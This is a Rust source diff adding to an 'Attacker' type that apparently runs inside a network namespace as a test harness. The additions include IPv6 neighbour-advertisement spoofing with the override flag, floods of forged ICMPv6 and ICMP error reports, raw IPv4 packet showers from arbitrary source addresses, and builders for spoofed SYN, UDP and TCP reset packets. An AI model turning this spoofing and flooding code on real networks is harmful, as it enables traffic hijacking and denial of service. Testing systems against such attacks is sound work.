@@ -3,7 +3,7 @@
 
 use std::fs::File;
 use std::io::IoSlice;
-use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddrV4, SocketAddrV6, UdpSocket};
 use std::os::fd::AsRawFd;
 use std::process::Command;
 use std::thread;
@@ -82,7 +82,7 @@ impl Attacker {
             format!("-n {name} link set eth0 arp off"),
             format!("-n {name} address add {as_host}/24 dev eth0"),
             format!("-n {name} link set eth0 up"),
-            neighbour(name, target, hardware),
+            neighbour(name, target.into(), hardware),
         ]
         .into_iter()
         .try_for_each(|words| ip(&words));
@@ -249,9 +249,7 @@ impl Attacker {
     /// # Panics
     /// When it has no socket, or nothing of the connection is heard.
     pub fn reset(&self, port: u16, victim: Ipv4Addr, hardware: &str, limit: Duration) -> u64 {
-        if let Err(reason) = ip(&neighbour(&self.namespace, victim, hardware)) {
-            panic!("{reason}");
-        }
+        self.know(victim.into(), hardware);
         let raw = self.within(|| {
             // Of the protocol 255 the headers are ours as well.
             match Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))) {
@@ -279,6 +277,81 @@ impl Attacker {
         sent_count
     }
 
+    /// From now on it knows that `host` has the link address `hardware`.
+    ///
+    /// # Panics
+    /// When it cannot.
+    pub fn know(&self, host: IpAddr, hardware: &str) {
+        if let Err(reason) = ip(&neighbour(&self.namespace, host, hardware)) {
+            panic!("{reason}");
+        }
+    }
+
+    /// Takes the address `own` of IPv6 as well.
+    ///
+    /// # Panics
+    /// When it cannot.
+    pub fn add_address(&self, own: Ipv6Addr) {
+        let words = format!("-n {} address add {own}/64 dev eth0 nodad", self.namespace);
+        if let Err(reason) = ip(&words) {
+            panic!("{reason}");
+        }
+    }
+
+    /// Sends whole IPv4 packets, from whatever address they say, one after the other and again from the first, for
+    /// `span` at `rate` a second. The kernel fills in the length and the checksum of the header.
+    ///
+    /// # Panics
+    /// When it has no socket.
+    pub fn shower(&self, packets: &[Vec<u8>], span: Duration, rate: u32) -> Flood {
+        let to = packets.iter().map(|packet| {
+            let address: [u8; 4] = [packet[16], packet[17], packet[18], packet[19]];
+            SockAddr::from(SocketAddrV4::new(address.into(), 0))
+        });
+        let packets: Vec<_> = packets.iter().cloned().zip(to).collect();
+        // Of the protocol 255 the headers are ours as well.
+        self.send_all((Domain::IPV4, Protocol::from(255)), &packets, span, rate)
+    }
+
+    /// Sends messages of ICMP for IPv6, of every type but neighbour advertisements to `to`, with reports on datagrams from
+    /// `quoted[0]` to `quoted[1]`, for `span` at `rate` a second.
+    ///
+    /// # Panics
+    /// When it has no socket.
+    pub fn forge_reports_v6(
+        &self,
+        to: Ipv6Addr,
+        quoted: [SocketAddrV6; 2],
+        span: Duration,
+        rate: u32,
+    ) -> Flood {
+        let to = SockAddr::from(SocketAddrV6::new(to, 0, 0, 0));
+        let kinds = (0..=255_u8).filter(|kind| *kind != NEIGHBOUR_ADVERTISEMENT);
+        let kinds = kinds.flat_map(|kind| [0, 1, 4].map(|code| (kind, code)));
+        let words = kinds.map(|kind| (report_v6(kind, quoted), to.clone()));
+        let words: Vec<_> = words.collect();
+        self.send_all((Domain::IPV6, Protocol::ICMPV6), &words, span, rate)
+    }
+
+    /// Says to `to` that the address `host` is at the link address `hardware` (RFC 4861, section 4.4), which replaces
+    /// the one that is known.
+    ///
+    /// # Panics
+    /// When it has no socket.
+    pub fn claim_v6(&self, to: Ipv6Addr, host: Ipv6Addr, hardware: &str) {
+        let bytes = hardware
+            .split(':')
+            .map(|byte| u8::from_str_radix(byte, 16).expect("a link address"));
+        let mut word = vec![NEIGHBOUR_ADVERTISEMENT, 0, 0, 0, OVERRIDE, 0, 0, 0];
+        word.extend(host.octets());
+        // Target link-layer address, in units of eight bytes.
+        word.extend([2, 1]);
+        word.extend(bytes);
+        let to = SockAddr::from(SocketAddrV6::new(to, 0, 0, 0));
+        let span = Duration::from_millis(200);
+        self.send_all((Domain::IPV6, Protocol::ICMPV6), &[(word, to)], span, 20);
+    }
+
     /// Sends `to` forged reports of the network (ICMP) on datagrams from `quoted[0]` to `quoted[1]`, one kind
     /// after the other, for `span` at `rate` a second.
     ///
@@ -291,21 +364,36 @@ impl Attacker {
         span: Duration,
         rate: u32,
     ) -> Flood {
+        let to = SockAddr::from(SocketAddrV4::new(to, 0));
+        let words = REPORTS.map(|kind| (report(kind, quoted), to.clone()));
+        self.send_all((Domain::IPV4, Protocol::ICMPV4), &words, span, rate)
+    }
+
+    fn send_all(
+        &self,
+        (domain, protocol): (Domain, Protocol),
+        words: &[(Vec<u8>, SockAddr)],
+        span: Duration,
+        rate: u32,
+    ) -> Flood {
         self.within(|| {
-            let opened = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4));
+            let opened = Socket::new(domain, Type::RAW, Some(protocol));
             let socket = match opened {
                 Ok(socket) => socket,
                 Err(error) => panic!("no raw socket for the attacker: {error}"),
             };
-            let to = SockAddr::from(SocketAddrV4::new(to, 0));
+            if domain == Domain::IPV6
+                && let Err(error) = socket.set_unicast_hops_v6(HOPS_OF_NEIGHBOURS)
+            {
+                panic!("the attacker's hop limit: {error}");
+            }
             let began = Instant::now();
             let mut flood = Flood::default();
-            for (number, kind) in REPORTS.iter().cycle().enumerate() {
+            for (number, (bytes, to)) in words.iter().cycle().enumerate() {
                 if began.elapsed() >= span {
                     break;
                 }
-                let sent = socket.send_to(&report(*kind, quoted), &to);
-                flood.sent_count += u64::from(sent.is_ok());
+                flood.sent_count += u64::from(socket.send_to(bytes, to).is_ok());
                 let due = Duration::from_secs_f64(number as f64 / f64::from(rate));
                 thread::sleep(due.saturating_sub(began.elapsed()));
             }
@@ -313,6 +401,80 @@ impl Attacker {
             flood
         })
     }
+}
+
+/// A type of ICMP for IPv6, and its flag that what is known is to be replaced (RFC 4861).
+const NEIGHBOUR_ADVERTISEMENT: u8 = 136;
+const OVERRIDE: u8 = 0x20;
+/// Without it no host believes a word of neighbour discovery.
+const HOPS_OF_NEIGHBOURS: u32 = 255;
+
+/// A message of ICMP for IPv6 (RFC 4443), as a report on a datagram from `quoted[0]` to `quoted[1]`. The kernel fills in the
+/// checksum.
+fn report_v6((kind, code): (u8, u8), quoted: [SocketAddrV6; 2]) -> Vec<u8> {
+    // Too long for the next hop of 1280 bytes, which is as short as any may be; else unused.
+    let mut bytes = vec![kind, code, 0, 0, 0, 0, 5, 0];
+    bytes.extend([0x60, 0, 0, 0, 0, 108, 17, 64]);
+    bytes.extend(quoted[0].ip().octets());
+    bytes.extend(quoted[1].ip().octets());
+    bytes.extend(quoted[0].port().to_be_bytes());
+    bytes.extend(quoted[1].port().to_be_bytes());
+    bytes.extend([0, 108, 0, 0]);
+    bytes
+}
+
+/// The header of an IPv4 packet of `protocol`; the kernel fills in the length and the checksum.
+fn header_v4(from: Ipv4Addr, to: Ipv4Addr, protocol: u8) -> Vec<u8> {
+    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, protocol, 0, 0];
+    bytes.extend(from.octets());
+    bytes.extend(to.octets());
+    bytes
+}
+
+/// A whole IPv4 packet of UDP, without a checksum.
+///
+/// # Panics
+/// When the payload is longer than a packet.
+pub fn datagram_v4(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
+    let mut bytes = header_v4(*from.ip(), *to.ip(), 17);
+    let length = u16::try_from(8 + payload.len()).expect("a short payload");
+    bytes.extend(from.port().to_be_bytes());
+    bytes.extend(to.port().to_be_bytes());
+    bytes.extend(length.to_be_bytes());
+    bytes.extend([0, 0]);
+    bytes.extend(payload);
+    bytes
+}
+
+/// A whole IPv4 packet with an ICMP message of `kind`, from the address quoted last, as a report on a datagram from
+/// `quoted[0]` to `quoted[1]`.
+pub fn report_v4(kind: u8, quoted: [SocketAddrV4; 2]) -> Vec<u8> {
+    let codes = REPORTS.iter().find(|known| known.0 == kind);
+    let kind = codes.copied().unwrap_or((kind, 0, 0));
+    [
+        header_v4(*quoted[1].ip(), *quoted[0].ip(), 1),
+        report(kind, quoted),
+    ]
+    .concat()
+}
+
+/// A whole IPv4 packet that begins a connection.
+pub fn syn_v4(from: SocketAddrV4, to: SocketAddrV4) -> Vec<u8> {
+    let segment = tcp(from, to, 1, TCP_SYN);
+    [header_v4(*from.ip(), *to.ip(), 6), segment].concat()
+}
+
+/// A TCP segment without content.
+fn tcp(from: SocketAddrV4, to: SocketAddrV4, sequence: u32, flags: u8) -> Vec<u8> {
+    let mut tcp = Vec::new();
+    tcp.extend(from.port().to_be_bytes());
+    tcp.extend(to.port().to_be_bytes());
+    tcp.extend(sequence.to_be_bytes());
+    tcp.extend([0, 0, 0, 0, 5 << 4, flags, 4, 0, 0, 0, 0, 0]);
+    let ends = [from.ip().octets(), to.ip().octets()].concat();
+    let sum = checksum(&[ends.as_slice(), &[0, 6, 0, 20], &tcp].concat());
+    tcp[16..18].copy_from_slice(&sum);
+    tcp
 }
 
 /// Type, code and the last four bytes of an ICMP header: network, host, protocol and port unreachable,
@@ -410,16 +572,11 @@ impl Segment {
         } else {
             (self.from, self.to, self.next)
         };
-        let mut tcp = Vec::new();
-        tcp.extend(from.port().to_be_bytes());
-        tcp.extend(to.port().to_be_bytes());
-        tcp.extend(next.to_be_bytes());
-        tcp.extend([0, 0, 0, 0, 5 << 4, TCP_RST, 0, 0, 0, 0, 0, 0]);
-        let ends = [from.ip().octets(), to.ip().octets()].concat();
-        let sum = checksum(&[ends.as_slice(), &[0, 6, 0, 20], &tcp].concat());
-        tcp[16..18].copy_from_slice(&sum);
-        let head = [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
-        [head.as_slice(), &ends, &tcp].concat()
+        [
+            header_v4(*from.ip(), *to.ip(), 6),
+            tcp(from, to, next, TCP_RST),
+        ]
+        .concat()
     }
 }
 
@@ -432,7 +589,7 @@ impl Drop for Attacker {
 }
 
 /// Words of `ip` that have the namespace `name` know that `host` has the link address `hardware`.
-fn neighbour(name: &str, host: Ipv4Addr, hardware: &str) -> String {
+fn neighbour(name: &str, host: IpAddr, hardware: &str) -> String {
     format!("-n {name} neigh replace {host} lladdr {hardware} dev eth0")
 }
 
